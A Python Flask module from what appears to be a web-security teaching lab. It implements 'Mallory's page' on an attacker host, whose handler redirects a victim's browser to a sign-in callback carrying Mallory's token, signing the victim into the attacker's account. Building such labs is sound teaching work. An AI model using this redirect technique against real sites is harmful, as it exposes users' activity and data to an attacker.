"""Mallory's page, on the attacker's host: a link for a victim to follow in a real browser."""

from __future__ import annotations

from flask import Blueprint, Flask, current_app, redirect, render_template, request
from flask import make_response as response_of
from werkzeug.wrappers import Response

from flask_service.security_headers import content_security_policy
from lab.current import config

from .bench import Bench
from .browsers import BenchError

blueprint = Blueprint("mallory", __name__, url_prefix="/present")


def init_app(app: Flask, bench: Bench) -> None:
    """Add the page."""
    app.extensions["bench"] = bench
    app.register_blueprint(blueprint)


@blueprint.get("")
def present() -> Response:
    """Show what the victim sees."""
    return _page()


@blueprint.post("")
def open_present() -> Response:
    """Lead the victim's browser to the end of a sign-in that is Mallory's."""
    bench: Bench = current_app.extensions["bench"]
    try:
        url, token = bench.link_of_mallory()
    except BenchError as error:
        return _page(str(error), 503)
    if request.form.get("at") == "tutorial":
        url = f"{config().base_url}/tutorial/callback?token={token}"
    return redirect(url, 303)


def _page(problem: str = "", status: int = 200) -> Response:
    response = response_of(render_template("attacks/present.html", problem=problem))
    response.status_code = status
    # Browsers hold form-action against the redirect as well.
    response.headers["Content-Security-Policy"] = content_security_policy(
        "'self'", config().server2.url, config().base_url
    )
    return response
